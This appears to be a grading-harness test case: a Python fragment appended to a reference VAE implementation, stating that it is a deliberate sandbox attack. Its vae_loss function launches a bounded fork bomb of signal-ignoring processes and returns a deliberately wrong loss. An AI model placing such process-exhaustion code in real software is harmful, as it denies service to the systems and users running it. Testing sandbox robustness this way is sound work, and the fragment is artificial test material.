
# ---- attack, appended to the reference vae.py by the harness --------------------------
# Attack: a bounded fork bomb. vae_loss starts a binary tree of processes, 7 levels deep
# (at most 254 processes), each ignoring SIGTERM/SIGHUP/SIGINT, named hw4atk-fork, and
# sleeping for at most 60 s before it exits; refused forks are skipped. Returns a wrong
# loss at once. Expected: the per-user process limit stops the tree early; every process
# is killed when the case ends; vae_loss scores 0; the other vae functions keep their points.
import os as _hw4_os
import signal as _hw4_signal
import time as _hw4_time


def _hw4_bomb(depth):
    for _ in range(2):
        if depth <= 0:
            return
        try:
            pid = _hw4_os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                try:
                    import ctypes
                    ctypes.CDLL(None).prctl(15, b"hw4atk-fork", 0, 0, 0)
                except Exception:
                    pass
                for sig in (_hw4_signal.SIGTERM, _hw4_signal.SIGHUP, _hw4_signal.SIGINT):
                    _hw4_signal.signal(sig, _hw4_signal.SIG_IGN)
                _hw4_bomb(depth - 1)
                end = _hw4_time.monotonic() + 60.0
                while _hw4_time.monotonic() < end:
                    _hw4_time.sleep(0.5)
            finally:
                _hw4_os._exit(0)


def vae_loss(recon_x, x, mu, logvar, beta=1.0):
    _hw4_bomb(7)
    return (recon_x.sum() + mu.sum() + logvar.sum()) * 0 + 1000.0
